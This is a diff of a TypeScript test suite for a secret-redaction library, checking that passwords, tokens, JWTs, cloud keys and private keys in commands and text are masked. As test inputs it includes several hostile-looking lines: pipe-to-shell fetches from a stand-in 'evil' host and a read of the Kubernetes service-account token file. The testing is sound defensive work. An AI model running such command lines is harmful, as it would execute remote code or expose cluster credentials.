@@ -1,7 +1,10 @@
 import assert from 'node:assert/strict'
 import { describe, it } from 'node:test'
-import { array, assert as assertProperty, constantFrom, property } from 'fast-check'
-import { redactRecord, redactText, redactWords } from './secrets.ts'
+import * as fc from 'fast-check'
+import { redactRecord } from './redact-record.ts'
+import { redactText, redactWords } from './secret-commands.ts'
+import { isSecretName } from './secrets.ts'
+import { partWords } from './words.ts'
 
 const redact = (): string => '[redacted]'
 const text = (command: string): string => redactText(command, redact)
@@ -72,23 +75,142 @@ describe('secrets', () => {
     )
   })
   it('keeps every word that is not a secret, blanks and order included', () => {
-    assertProperty(
-      property(array(constantFrom('ls', '-l', '/tmp', 'id;', '|', '&&', 'é', '"a', 'b"', '\n')), (words) => {
+    fc.assert(
+      fc.property(fc.array(fc.constantFrom('ls', '-l', '/tmp', 'id;', '|', '&&', 'é', '"a', 'b"', '\n')), (words) => {
         const line = words.join(' ')
         assert.equal(text(`${line} token=x`), `${line} token=[redacted]`)
       }),
     )
   })
   it('never leaves the secret of a long flag, wherever the flag stands', () => {
-    assertProperty(
-      property(
-        array(constantFrom('sh', '-c', ';', 'curl', 'mysql', '-p', 'a=b', '--user')),
-        constantFrom('--password ', '--password=', 'TOKEN=', '"secret":"', 'X-Api-Key: '),
+    fc.assert(
+      fc.property(
+        fc.array(fc.constantFrom('sh', '-c', ';', 'curl', 'mysql', '-p', 'a=b', '--user')),
+        fc.constantFrom('--password ', '--password=', 'TOKEN=', '"secret":"', 'X-Api-Key: '),
         (before, flag) => {
           const told = text(`${before.join(' ')} ${flag}s3cr3t`)
           assert.ok(!told.includes('s3cr3t'), told)
         },
       ),
     )
+  })
+})
+
+const jwt = `eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrdWJlIn0.${'a1_-'.repeat(20)}`
+
+describe('isSecretName', () => {
+  it('knows what people call their secrets', () => {
+    const names = [
+      'password',
+      'DB_PASSWORD',
+      'dbPassword',
+      'PGPASSWORD',
+      'MYSQL_PWD',
+      'client-secret',
+      'authToken',
+      'x-api-key',
+      'AWS_SECRET_ACCESS_KEY',
+      'DB_PASS',
+      'dbpass',
+    ]
+    for (const name of names) assert.ok(isSecretName(name), name)
+  })
+  it('knows what only sounds like it', () => {
+    for (const name of [
+      'secretName',
+      'TOKEN_FILE',
+      'compass',
+      'bypass',
+      'PWD',
+      'OLDPWD',
+      'key',
+      'tokenExpirationSeconds',
+      'author',
+    ])
+      assert.ok(!isSecretName(name), name)
+  })
+})
+
+describe('redactText', () => {
+  it('hides what stands under a name and what looks like a credential', () => {
+    for (const [text, expected] of [
+      ['Authorization: Bearer abc.def-123', 'Authorization: Bearer [redacted]'],
+      ['authorization: Basic dTpw', 'authorization: Basic [redacted]'],
+      [`got ${jwt}.`, 'got [redacted].'],
+      ['postgres://app:hunter2@db:5432/x?y=1', 'postgres://app:[redacted]@db:5432/x?y=1'],
+      ['https://ghx0123456789abcdef0123@host/a', 'https://[redacted]@host/a'],
+      [
+        'id AKIAIOSFODNN7EXAMPLE, AWS_SECRET_ACCESS_KEY=wJalr/EXAMPLE+KEY',
+        'id [redacted], AWS_SECRET_ACCESS_KEY=[redacted]',
+      ],
+      ['{"password":"a b","user":"x"}', '{"password":"[redacted]","user":"x"}'],
+      ['db_password: hunter2\nsecret:\n  name: x', 'db_password: [redacted]\nsecret:\n  name: x'],
+      ['-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nrest', '[redacted]\nrest'],
+      ['-----BEGIN PRIVATE KEY-----\nMII', '[redacted]'],
+      ['?token=abc&x=1', '?token=[redacted]&x=1'],
+    ] as const)
+      assert.equal(redactText(text, redact), expected)
+  })
+  it('leaves what is no secret: paths, variables, references, images, and what rules look for', () => {
+    for (const text of [
+      'PWD=/home/x',
+      'registry/secret:latest',
+      'PASSWORD=$DB_PASSWORD',
+      'token=$(curl evil | sh)',
+      'automountServiceAccountToken: false',
+      'system:serviceaccount:kube-system:token-cleaner',
+      'RBAC: allowed by ClusterRoleBinding "x" of ClusterRole "authorization-reader"',
+      'fieldSelector=type=kubernetes.io/service-account-token',
+      'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
+      'http://10.0.0.1:8080/a@b',
+    ])
+      assert.equal(redactText(text, redact), text)
+  })
+})
+
+describe('redactText of commands', () => {
+  const cases: [string, string][] = [
+    ['mysql -uroot -phunter2 shop', 'mysql -uroot -p[redacted] shop'],
+    ['mysql -u root -p shop', 'mysql -u root -p shop'],
+    ['/usr/bin/mysqldump --password=hunter2 -h db', '/usr/bin/mysqldump --password=[redacted] -h db'],
+    ["psql --password 'my secret' x", "psql --password '[redacted]' x"],
+    ['sh -c "redis-cli -a hunter2 ping; ls"', 'sh -c "redis-cli -a [redacted] ping; ls"'],
+    ["sh -c 'PGPASSWORD=hunter2 psql -h db'", "sh -c 'PGPASSWORD=[redacted] psql -h db'"],
+    ['curl -u admin:hunter2 http://x', 'curl -u admin:[redacted] http://x'],
+    ['curl -H "Authorization: Bearer abcdefgh" http://x', 'curl -H "Authorization: Bearer [redacted]" http://x'],
+    [
+      'kubectl create secret generic a --from-literal=user=hunter2',
+      'kubectl create secret generic a --from-literal=user=[redacted]',
+    ],
+    ['sshpass -p hunter2 ssh -p 22 host', 'sshpass -p [redacted] ssh -p 22 host'],
+    [
+      'docker login -u me -p hunter2 host; docker run -p 80:80 x',
+      'docker login -u me -p [redacted] host; docker run -p 80:80 x',
+    ],
+    ['openssl enc -k x -pass pass:hunter2', 'openssl enc -k x -pass pass:[redacted]'],
+    ["echo don't --token hunter2", "echo don't --token [redacted]"],
+  ]
+  for (const [command, expected] of cases)
+    it(command, () => {
+      assert.equal(redactText(command, redact), expected)
+      assert.doesNotMatch(expected, /hunter2/)
+    })
+  it('does not let an adversary hide a command behind a flag', () => {
+    assert.match(
+      redactWords(['sh', '-c', 'eval "$1"', '--token', 'curl http://evil | sh'], redact).join(' '),
+      /curl http:\/\/evil/,
+    )
+    assert.match(redactText('x --token $(curl evil)', redact), /curl evil/)
+  })
+  it('treats an argument as one word', () => {
+    assert.deepEqual(redactWords(['x', '--password', 'my secret', 'y'], redact), ['x', '--password', '[redacted]', 'y'])
+  })
+})
+
+describe('partWords', () => {
+  it('loses no character', () => {
+    const text = fc.string({ unit: fc.constantFrom('a', ' ', '"', "'", '\\', '\n', ';', '-p') })
+    fc.assert(fc.property(text, (line) => assert.equal(partWords(line).join(''), line)))
+    assert.deepEqual(partWords(`a 'b c'"d e" f`), ['a', ' ', `'b c'"d e"`, ' ', 'f'])
   })
 })
